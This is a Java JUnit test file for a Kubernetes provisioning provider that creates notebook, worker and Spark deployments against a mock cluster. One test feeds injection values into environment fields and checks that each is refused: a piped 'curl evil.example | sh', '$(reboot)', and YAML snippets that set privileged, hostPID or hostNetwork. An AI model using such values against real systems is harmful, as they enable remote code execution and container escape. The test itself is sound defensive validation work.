package io.berth.provisioning.kubernetes;

import io.berth.core.account.AccountId;
import io.berth.core.catalog.TaskPhase;
import io.berth.core.catalog.TaskSpec;
import io.berth.core.error.ErrorCode;
import io.berth.core.provisioning.CommandAction;
import io.berth.core.provisioning.CommandId;
import io.berth.core.provisioning.DeploymentId;
import io.berth.core.provisioning.TaskId;
import io.berth.provisioning.spi.Provider;
import io.berth.provisioning.spi.ProviderException;
import io.berth.provisioning.spi.TaskMonitor;
import io.berth.provisioning.spi.TaskOutcome;
import io.berth.provisioning.spi.TaskRequest;
import io.berth.provisioning.tck.RecordingTaskMonitor;
import io.berth.provisioning.tck.TestProviderContext;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.LimitRange;
import io.fabric8.kubernetes.api.model.Namespace;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceQuota;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.client.KubernetesClient;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * The provider against fabric8's mock API server in CRUD mode, with a {@link FakeKubelet} acting as the
 * cluster's controllers: what an install creates, that a re-run converges, a configure rescales, a removal
 * deletes everything, and that pods that cannot start end the task at once with a typed reason.
 */
class KubernetesProviderTest {

    /** Long enough that a test passing within {@link #GUARD} cannot have waited for it. */
    private static final Duration LONG_TIMEOUT = Duration.ofMinutes(10);
    /** A hang guard, not a speed requirement. */
    private static final Duration GUARD = Duration.ofSeconds(60);

    @TempDir
    Path folder;

    private MockCluster cluster;
    private FakeKubelet kubelet;
    private TestProviderContext context;
    private Provider provider;
    private KubernetesClient k8s;

    private final AccountId owner = AccountId.random();
    private final DeploymentId deployment = DeploymentId.random();

    @BeforeEach
    void start() {
        cluster = MockCluster.start(folder);
        k8s = cluster.client();
        kubelet = new FakeKubelet(k8s);
        context = new TestProviderContext();
        provider = provider(Map.of());
    }

    @AfterEach
    void stop() throws Exception {
        try {
            provider.close();
            kubelet.close();
        } finally {
            cluster.close();
            context.close();
        }
    }

    private Provider provider(Map<String, String> extra) {
        Map<String, String> settings = new HashMap<>(Map.of(
                KubernetesProviderFactory.KUBECONFIG, cluster.kubeconfig().toString(),
                KubernetesProviderFactory.IMAGE_CATALOG, TestCatalog.write(folder).toString(),
                KubernetesProviderFactory.POLL_INTERVAL, "PT0.05S"));
        settings.putAll(extra);
        return new KubernetesProviderFactory().create(settings, context);
    }

    private void replaceProvider(Map<String, String> extra) {
        provider.close();
        provider = provider(extra);
    }

    static TaskSpec task(String kind, Map<String, String> settings) {
        return new TaskSpec(kind.substring("kubernetes-".length()), kind, null, null, List.of(), Map.of(), settings,
                LONG_TIMEOUT, 0, null, true);
    }

    private TaskRequest request(TaskPhase phase, String kind, Map<String, String> settings, Map<String, String> parameters) {
        return new TaskRequest(task(kind, settings), phase, phase == TaskPhase.HEALTH ? null
                : phase == TaskPhase.REMOVE ? CommandAction.REMOVE : CommandAction.INSTALL,
                CommandId.random(), TaskId.random(), 1, deployment, owner, "notebook-plan", parameters);
    }

    private TaskOutcome run(TaskPhase phase, String kind, Map<String, String> parameters) {
        return run(phase, kind, Map.of(), parameters, TaskMonitor.none());
    }

    private TaskOutcome run(TaskPhase phase, String kind, Map<String, String> settings, Map<String, String> parameters,
                            TaskMonitor monitor) {
        TaskRequest request = request(phase, kind, settings, parameters);
        return assertTimeoutPreemptively(GUARD, () -> provider.execute(request, monitor));
    }

    private static Map<String, String> parameters(String... pairs) {
        Map<String, String> parameters = new LinkedHashMap<>();
        parameters.put("account.level", "1");
        parameters.put("resources.package", "small");
        parameters.put("resources.worker.cores", "2");
        parameters.put("resources.worker.memory", "4096");
        parameters.put("resources.spark.worker.cores", "1");
        parameters.put("resources.spark.worker.memory", "2048");
        parameters.put("resources.disk", "20");
        parameters.put("quota.notebooks.count", "50");
        parameters.put("quota.notebooks.size", "10");
        parameters.put("quota.saved.count", "100");
        parameters.put("quota.saved.size", "1024");
        parameters.put("quota.temp.count", "100");
        parameters.put("quota.temp.size", "512");
        parameters.put("retention.temp.days", "7");
        parameters.put("retention.saved.months", "6");
        parameters.put("retention.notebooks.months", "keep");
        parameters.put("environment.name", "gaia-basic");
        parameters.put("environment.python.version", "3.11");
        parameters.put("environment.python.packages", "numpy,astropy==6.1.0");
        for (int i = 0; i < pairs.length; i += 2) {
            parameters.put(pairs[i], pairs[i + 1]);
        }
        return parameters;
    }

    private String namespace() {
        return "berth-" + deployment;
    }

    private String name(String component) {
        return "d" + deployment.toString().replace("-", "") + "-" + component;
    }

    private Map<String, String> byDeployment() {
        return Map.of(Manifests.DEPLOYMENT, deployment.toString());
    }

    @Test
    void namespaceInstallCreatesTheNamespaceQuotaAndLimitsFromThePackage() {
        TaskOutcome outcome = run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND,
                parameters("workers", "2", "spark.workers", "3"));

        assertThat(outcome.status()).as("outcome %s", outcome).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        Namespace namespace = k8s.namespaces().withName(namespace()).get();
        assertThat(namespace.getMetadata().getLabels()).containsEntry(Manifests.ACCOUNT, owner.toString())
                .containsEntry(Manifests.DEPLOYMENT, deployment.toString())
                .containsEntry(Manifests.PLAN, "notebook-plan")
                .containsEntry(Manifests.SHARING, "managed");
        ResourceQuota quota = k8s.resourceQuotas().inNamespace(namespace()).withName(Manifests.QUOTA_NAME).get();
        // notebook 2 + workers 2 x 2 + Spark master 0.5 + Spark workers 3 x 1 = 9.5 cores;
        // 4096 + 2 x 4096 + 1024 + 3 x 2048 = 19456 MiB; 1 + 2 + 1 + 3 = 7 pods.
        assertThat(amounts(quota.getSpec().getHard())).containsEntry("limits.cpu", "9500m")
                .containsEntry("requests.cpu", "9500m")
                .containsEntry("limits.memory", "19456Mi")
                .containsEntry("requests.memory", "19456Mi")
                .containsEntry("pods", "7")
                .containsEntry("persistentvolumeclaims", "0");
        assertThat(quota.getMetadata().getLabels()).containsEntry(Manifests.DEPLOYMENT, deployment.toString());
        LimitRange limits = k8s.limitRanges().inNamespace(namespace()).withName(Manifests.LIMITS_NAME).get();
        assertThat(amounts(limits.getSpec().getLimits().get(0).getDefault()))
                .containsExactlyInAnyOrderEntriesOf(Map.of("cpu", "2", "memory", "4096Mi"));
        assertThat(amounts(limits.getSpec().getLimits().get(0).getMax()))
                .containsExactlyInAnyOrderEntriesOf(Map.of("cpu", "2", "memory", "4096Mi"));
    }

    @Test
    void aFullInstallRunTwiceConvergesWithoutDuplicates() {
        Map<String, String> parameters = parameters("workers", "2", "spark.workers", "2");
        List<String> kinds = List.of(KubernetesProvider.NAMESPACE_KIND, KubernetesProvider.SPARK_KIND,
                KubernetesProvider.WORKERS_KIND, KubernetesProvider.NOTEBOOK_KIND);

        for (String kind : kinds) {
            assertThat(run(TaskPhase.INSTALL, kind, parameters).status()).as(kind).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        }
        Map<String, Integer> first = inventory();
        for (String kind : kinds) {
            assertThat(run(TaskPhase.INSTALL, kind, parameters).status()).as(kind).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        }

        assertThat(first).containsEntry("deployments", 4).containsEntry("services", 2)
                .containsEntry("configmaps", 1).containsEntry("pods", 1 + 1 + 2 + 2);
        assertThat(inventory()).isEqualTo(first);
        assertThat(FakeKubelet.names(k8s.apps().deployments().inNamespace(namespace()).list().getItems()))
                .containsExactlyInAnyOrder(name("notebook"), name("spark-master"), name("spark-worker"), name("workers"));
    }

    @Test
    void aConfigureRescalesTheWorkersAndRaisesTheirLimits() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters("workers", "1"));
        assertThat(run(TaskPhase.INSTALL, KubernetesProvider.WORKERS_KIND, parameters("workers", "1")).status())
                .isEqualTo(TaskOutcome.Status.SUCCEEDED);

        Map<String, String> larger = parameters("workers", "3", "resources.worker.cores", "4",
                "resources.worker.memory", "8192");
        TaskOutcome quota = run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, larger);
        TaskOutcome workers = run(TaskPhase.INSTALL, KubernetesProvider.WORKERS_KIND, larger);

        assertThat(quota.status()).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(workers.status()).as("outcome %s", workers).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        Deployment scaled = k8s.apps().deployments().inNamespace(namespace()).withName(name("workers")).get();
        assertThat(scaled.getSpec().getReplicas()).isEqualTo(3);
        Container container = scaled.getSpec().getTemplate().getSpec().getContainers().get(0);
        assertThat(amounts(container.getResources().getLimits())).containsEntry("cpu", "4").containsEntry("memory", "8192Mi");
        assertThat(amounts(k8s.resourceQuotas().inNamespace(namespace()).withName(Manifests.QUOTA_NAME).get()
                .getSpec().getHard())).containsEntry("limits.cpu", "16").containsEntry("limits.memory", "32768Mi");
        assertThat(k8s.pods().inNamespace(namespace()).withLabel(Manifests.COMPONENT, "workers").list().getItems())
                .hasSize(3).allSatisfy(pod -> assertThat(PodWaiter.isReady(pod)).isTrue());
    }

    @Test
    void removeDeletesEveryObjectByLabelAndWaitsUntilItIsGone() {
        Map<String, String> parameters = parameters("workers", "1", "spark.workers", "1");
        List<String> kinds = List.of(KubernetesProvider.NAMESPACE_KIND, KubernetesProvider.SPARK_KIND,
                KubernetesProvider.WORKERS_KIND, KubernetesProvider.NOTEBOOK_KIND);
        kinds.forEach(kind -> assertThat(run(TaskPhase.INSTALL, kind, parameters).status()).isEqualTo(TaskOutcome.Status.SUCCEEDED));

        List<String> reversed = new java.util.ArrayList<>(kinds);
        java.util.Collections.reverse(reversed);
        for (String kind : reversed) {
            TaskOutcome removed = run(TaskPhase.REMOVE, kind, parameters);
            assertThat(removed.status()).as("remove %s: %s", kind, removed).isEqualTo(TaskOutcome.Status.SUCCEEDED);
            if (!kind.equals(KubernetesProvider.NAMESPACE_KIND)) {
                String component = kind.equals(KubernetesProvider.SPARK_KIND) ? "spark-master"
                        : kind.substring("kubernetes-".length());
                assertThat(k8s.apps().deployments().inNamespace(namespace()).withLabel(Manifests.COMPONENT, component)
                        .list().getItems()).as("deployments of %s", component).isEmpty();
            }
        }

        assertThat(k8s.namespaces().withName(namespace()).get()).isNull();
        assertThat(k8s.apps().deployments().inAnyNamespace().withLabels(byDeployment()).list().getItems()).isEmpty();
        assertThat(k8s.services().inAnyNamespace().withLabels(byDeployment()).list().getItems()).isEmpty();
        assertThat(k8s.configMaps().inAnyNamespace().withLabels(byDeployment()).list().getItems()).isEmpty();
        assertThat(k8s.pods().inAnyNamespace().withLabels(byDeployment()).list().getItems()).isEmpty();
        // Removing again finds nothing to do and still succeeds.
        assertThat(run(TaskPhase.REMOVE, KubernetesProvider.NOTEBOOK_KIND, parameters).status())
                .isEqualTo(TaskOutcome.Status.SUCCEEDED);
    }

    @Test
    void anImageThatCannotBePulledFailsTheTaskAtOnceWithItsReason() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());

        // The task's timeout is ten minutes; the guard of run() fails the test after one.
        TaskOutcome outcome = run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of("image", "broken"),
                parameters(), TaskMonitor.none());

        assertThat(outcome.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(outcome.reason()).startsWith("image-pull-failed: pod " + name("notebook"))
                .contains("ErrImagePull").contains("registry.example/berth/missing:1");
        assertThat(outcome.output()).contains(outcome.reason());
    }

    @Test
    void crashingUnschedulableAndOverQuotaPodsFailWithTheirOwnReasons() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters("workers", "1"));

        TaskOutcome crash = run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of("image", "crashing"),
                parameters(), TaskMonitor.none());
        TaskOutcome unschedulable = run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of("image", "too-big"),
                parameters(), TaskMonitor.none());
        // The namespace's quota holds one worker; asking for five without re-running it exceeds the quota.
        TaskOutcome quota = run(TaskPhase.INSTALL, KubernetesProvider.WORKERS_KIND, parameters("workers", "5"));

        assertThat(crash.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(crash.reason()).startsWith("crash-loop: ").contains("CrashLoopBackOff");
        assertThat(unschedulable.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(unschedulable.reason()).startsWith("unschedulable: ").contains("Insufficient cpu");
        assertThat(quota.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(quota.reason()).startsWith("quota-exceeded: ").contains("exceeded quota: berth-quota");
    }

    @Test
    void progressReportsEachStepOfEachPodOnceAndInOrder() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());
        RecordingTaskMonitor monitor = new RecordingTaskMonitor();

        TaskOutcome outcome = run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of(), parameters(), monitor);

        assertThat(outcome.status()).as("outcome %s", outcome).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        String pod = k8s.pods().inNamespace(namespace()).withLabel(Manifests.COMPONENT, "notebook").list().getItems()
                .get(0).getMetadata().getName();
        List<String> podSteps = monitor.progress().stream().filter(message -> message.startsWith("pod ")).toList();
        assertThat(podSteps).containsExactly(
                "pod " + pod + " scheduled on node " + FakeKubelet.NODE,
                "pod " + pod + " pulling image " + TestCatalog.GOOD,
                "pod " + pod + " started",
                "pod " + pod + " ready");
        assertThat(monitor.progress().get(0)).startsWith("image " + TestCatalog.GOOD);
        assertThat(monitor.progress().get(monitor.progress().size() - 1)).isEqualTo("all pods ready: notebook 1/1");
    }

    @Test
    void theNotebookCarriesThePackageQuotasRetentionAndTheMissingPackages() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());

        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, parameters());

        Deployment notebook = k8s.apps().deployments().inNamespace(namespace()).withName(name("notebook")).get();
        Container container = notebook.getSpec().getTemplate().getSpec().getContainers().get(0);
        Map<String, String> env = container.getEnv().stream().collect(Collectors.toMap(EnvVar::getName, EnvVar::getValue));
        Map<String, String> expected = new LinkedHashMap<>(parameters());
        expected.remove("environment.python.version");
        expected.remove("environment.python.packages");
        assertThat(env).containsAllEntriesOf(expected)
                // numpy is in the image; astropy is not, and a pinned version is installed even where it is.
                .containsEntry(EnvironmentChoice.PIP_VARIABLE, "astropy==6.1.0")
                .containsEntry("BERTH_DEPLOYMENT_ID", deployment.toString());
        assertThat(container.getImage()).isEqualTo(TestCatalog.GOOD);
        assertThat(amounts(container.getResources().getLimits())).containsEntry("cpu", "2")
                .containsEntry("memory", "4096Mi").containsEntry("ephemeral-storage", "20Gi");
        assertThat(notebook.getSpec().getTemplate().getSpec().getAutomountServiceAccountToken()).isFalse();
        assertThat(k8s.services().inNamespace(namespace()).withName(name("notebook")).get().getSpec().getPorts())
                .singleElement().satisfies(port -> assertThat(port.getPort()).isEqualTo(8888));
    }

    @Test
    void sparkGetsItsConfigurationFromThePackageAndTheJavaPackages() {
        Map<String, String> parameters = parameters("spark.workers", "2", "environment.java.version", "17",
                "environment.java.packages", "org.apache.hadoop:hadoop-aws:3.3.4,io.delta:delta-spark_2.12:3.2.0");
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters);

        TaskOutcome outcome = run(TaskPhase.INSTALL, KubernetesProvider.SPARK_KIND, parameters);

        assertThat(outcome.status()).as("outcome %s", outcome).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        String conf = k8s.configMaps().inNamespace(namespace()).withName(name("spark-conf")).get().getData()
                .get("spark-defaults.conf");
        assertThat(conf.lines()).contains("spark.master spark://" + name("spark-master") + ":7077",
                "spark.executor.cores 1", "spark.executor.memory 1664m", "spark.cores.max 2",
                "spark.jars.packages org.apache.hadoop:hadoop-aws:3.3.4,io.delta:delta-spark_2.12:3.2.0");
        Deployment workers = k8s.apps().deployments().inNamespace(namespace()).withName(name("spark-worker")).get();
        assertThat(workers.getSpec().getReplicas()).isEqualTo(2);
        assertThat(workers.getSpec().getTemplate().getSpec().getContainers().get(0).getImage()).isEqualTo(TestCatalog.SPARK);

        // A configure down to no Spark workers stops Spark altogether.
        TaskOutcome off = run(TaskPhase.INSTALL, KubernetesProvider.SPARK_KIND, parameters("spark.workers", "0"));
        assertThat(off.status()).as("outcome %s", off).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(k8s.apps().deployments().inNamespace(namespace()).list().getItems()).isEmpty();
    }

    @Test
    void healthReportsReadinessAndTheReasonPodsAreNotReady() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());
        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, parameters());

        TaskOutcome healthy = run(TaskPhase.HEALTH, KubernetesProvider.NOTEBOOK_KIND, parameters());
        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of("image", "crashing"), parameters(), TaskMonitor.none());
        TaskOutcome crashing = run(TaskPhase.HEALTH, KubernetesProvider.NOTEBOOK_KIND, parameters());
        TaskOutcome noWorkers = run(TaskPhase.HEALTH, KubernetesProvider.WORKERS_KIND, parameters());

        assertThat(healthy.status()).as("outcome %s", healthy).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(healthy.output()).isEqualTo("ready: notebook 1/1");
        assertThat(crashing.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(crashing.reason()).startsWith("crash-loop: ");
        assertThat(noWorkers.status()).isEqualTo(TaskOutcome.Status.FAILED);
        assertThat(noWorkers.reason()).startsWith("missing: workers");
    }

    @Test
    void aSharedNamespaceHoldsSeveralDeploymentsSideBySide() {
        replaceProvider(Map.of(KubernetesProviderFactory.SHARING, "shared"));
        DeploymentId other = DeploymentId.random();

        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());
        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, parameters());
        TaskRequest second = new TaskRequest(task(KubernetesProvider.NOTEBOOK_KIND, Map.of()), TaskPhase.INSTALL,
                CommandAction.INSTALL, CommandId.random(), TaskId.random(), 1, other, AccountId.random(), "notebook-plan",
                parameters());
        TaskOutcome secondOutcome = assertTimeoutPreemptively(GUARD, () -> provider.execute(second, TaskMonitor.none()));

        assertThat(secondOutcome.status()).as("outcome %s", secondOutcome).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(k8s.namespaces().withName(namespace()).get()).isNull();
        assertThat(k8s.namespaces().withName("berth-shared").get().getMetadata().getLabels())
                .containsEntry(Manifests.SHARING, "shared").doesNotContainKey(Manifests.ACCOUNT);
        assertThat(FakeKubelet.names(k8s.apps().deployments().inNamespace("berth-shared").list().getItems()))
                .containsExactlyInAnyOrder(name("notebook"), "d" + other.toString().replace("-", "") + "-notebook");
        assertThat(k8s.configMaps().inNamespace("berth-shared").withName(name("package")).get().getData())
                .containsEntry("limits.cpu", "2");

        assertThat(run(TaskPhase.REMOVE, KubernetesProvider.NOTEBOOK_KIND, parameters()).status())
                .isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(run(TaskPhase.REMOVE, KubernetesProvider.NAMESPACE_KIND, parameters()).status())
                .isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(k8s.namespaces().withName("berth-shared").get()).as("the shared namespace stays").isNotNull();
        assertThat(FakeKubelet.names(k8s.apps().deployments().inNamespace("berth-shared").list().getItems()))
                .containsExactly("d" + other.toString().replace("-", "") + "-notebook");
    }

    @Test
    void reservedDeploymentsRunOnDedicatedNodesOrInAnotherContext() {
        replaceProvider(Map.of(KubernetesProviderFactory.SHARING, "reserved",
                KubernetesProviderFactory.RESERVED_NODE_SELECTOR, "berth.io/pool=reserved",
                KubernetesProviderFactory.RESERVED_TAINT, "berth.io/reserved=true:NoSchedule"));
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());
        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, parameters());

        var pod = k8s.apps().deployments().inNamespace(namespace()).withName(name("notebook")).get()
                .getSpec().getTemplate().getSpec();
        assertThat(pod.getNodeSelector()).containsExactlyEntriesOf(Map.of("berth.io/pool", "reserved"));
        assertThat(pod.getTolerations()).singleElement().satisfies(toleration -> {
            assertThat(toleration.getKey()).isEqualTo("berth.io/reserved");
            assertThat(toleration.getValue()).isEqualTo("true");
            assertThat(toleration.getOperator()).isEqualTo("Equal");
            assertThat(toleration.getEffect()).isEqualTo("NoSchedule");
        });
        assertThat(k8s.namespaces().withName(namespace()).get().getMetadata().getLabels())
                .containsEntry(Manifests.SHARING, "reserved");

        replaceProvider(Map.of(KubernetesProviderFactory.SHARING, "reserved",
                KubernetesProviderFactory.RESERVED_CONTEXT, "other"));
        assertThat(provider.health().up()).isTrue();
        assertThatThrownBy(() -> provider(Map.of(KubernetesProviderFactory.SHARING, "reserved",
                KubernetesProviderFactory.RESERVED_CONTEXT, "nowhere")))
                .isInstanceOfSatisfying(ProviderException.class, e -> {
                    assertThat(e.errorCode()).isEqualTo(ErrorCode.INVALID_REQUEST);
                    assertThat(e.getMessage()).contains("'nowhere'");
                });
    }

    @Test
    void hostileEnvironmentValuesAreRefusedWithTheFieldNamedBeforeAnythingIsCreated() {
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());
        Map<String, String> hostile = Map.of(
                "environment.python.packages", "numpy; curl evil.example | sh",
                "environment.system.packages", "libgomp1\nspec:\n  hostPID: true",
                "environment.java.packages", "org.x:y:1 --conf spark.driver.extraJavaOptions=-Dx",
                "environment.binary.packages", "$(reboot)",
                "environment.python.version", "3.11\"; privileged: true",
                "environment.name", "gaia\nprivileged: true",
                "resources.worker.memory", "4096Mi, hostNetwork: true",
                "workers", "1000");

        hostile.forEach((field, value) -> {
            TaskRequest request = request(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, Map.of(),
                    parameters(field, value));
            assertThatThrownBy(() -> provider.execute(request, TaskMonitor.none())).as(field)
                    .isInstanceOfSatisfying(ProviderException.class, e -> {
                        assertThat(e.errorCode()).isEqualTo(ErrorCode.INVALID_REQUEST);
                        assertThat(e.getMessage()).contains(field);
                    });
        });
        assertThat(k8s.apps().deployments().inAnyNamespace().list().getItems()).isEmpty();
    }

    @Test
    void validateChecksTheKindTheSettingsAndTheProvidersConfiguration() {
        assertThatThrownBy(() -> provider.validate(task(KubernetesProvider.NOTEBOOK_KIND, Map.of("hostPID", "true"))))
                .isInstanceOfSatisfying(ProviderException.class, e -> {
                    assertThat(e.errorCode()).isEqualTo(ErrorCode.INVALID_TASK_SPEC);
                    assertThat(e.getMessage()).contains("settings.hostPID");
                });
        assertThatThrownBy(() -> provider.validate(task(KubernetesProvider.NOTEBOOK_KIND, Map.of("port", "80"))))
                .isInstanceOfSatisfying(ProviderException.class, e -> assertThat(e.getMessage()).contains("settings.port"));
        assertThatThrownBy(() -> provider.validate(task(KubernetesProvider.STORAGE_KIND, Map.of())))
                .isInstanceOfSatisfying(ProviderException.class, e -> assertThat(e.getMessage()).contains("storage.class"));
        assertThatThrownBy(() -> provider.validate(task(KubernetesProvider.WORKERS_KIND, Map.of("image", "quay.io/x:1"))))
                .isInstanceOfSatisfying(ProviderException.class, e -> assertThat(e.getMessage())
                        .contains("not in the image catalog"));
    }

    @Test
    void storageCreatesTheUserVolumeOnceAndTheNotebookMountsIt() {
        replaceProvider(Map.of(KubernetesProviderFactory.STORAGE_CLASS, "standard-rwo",
                KubernetesProviderFactory.EXAMPLES_CLAIM, "examples"));
        run(TaskPhase.INSTALL, KubernetesProvider.NAMESPACE_KIND, parameters());

        TaskOutcome first = run(TaskPhase.INSTALL, KubernetesProvider.STORAGE_KIND, parameters());
        TaskOutcome second = run(TaskPhase.INSTALL, KubernetesProvider.STORAGE_KIND, parameters());
        run(TaskPhase.INSTALL, KubernetesProvider.NOTEBOOK_KIND, parameters());

        assertThat(first.status()).isEqualTo(TaskOutcome.Status.SUCCEEDED);
        assertThat(second.output()).contains("kept PersistentVolumeClaim");
        var claims = k8s.persistentVolumeClaims().inNamespace(namespace()).list().getItems();
        assertThat(claims).singleElement().satisfies(claim -> {
            assertThat(claim.getSpec().getStorageClassName()).isEqualTo("standard-rwo");
            assertThat(claim.getSpec().getResources().getRequests().get("storage").toString()).isEqualTo("20Gi");
        });
        var pod = k8s.apps().deployments().inNamespace(namespace()).withName(name("notebook")).get()
                .getSpec().getTemplate().getSpec();
        assertThat(pod.getVolumes()).extracting(volume -> volume.getPersistentVolumeClaim().getClaimName())
                .containsExactly(name("user"));
        assertThat(amounts(k8s.resourceQuotas().inNamespace(namespace()).withName(Manifests.QUOTA_NAME).get()
                .getSpec().getHard())).containsEntry("persistentvolumeclaims", "1").containsEntry("requests.storage", "20Gi");
    }

    private Map<String, Integer> inventory() {
        Map<String, Integer> counts = new LinkedHashMap<>();
        counts.put("namespaces", k8s.namespaces().withLabels(byDeployment()).list().getItems().size());
        counts.put("quotas", k8s.resourceQuotas().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        counts.put("limits", k8s.limitRanges().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        counts.put("deployments", k8s.apps().deployments().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        counts.put("services", k8s.services().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        counts.put("configmaps", k8s.configMaps().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        counts.put("pods", k8s.pods().inAnyNamespace().withLabels(byDeployment()).list().getItems().size());
        return counts;
    }

    private static Map<String, String> amounts(Map<String, Quantity> quantities) {
        Map<String, String> amounts = new LinkedHashMap<>();
        quantities.forEach((name, quantity) -> amounts.put(name, quantity.toString()));
        return amounts;
    }
}
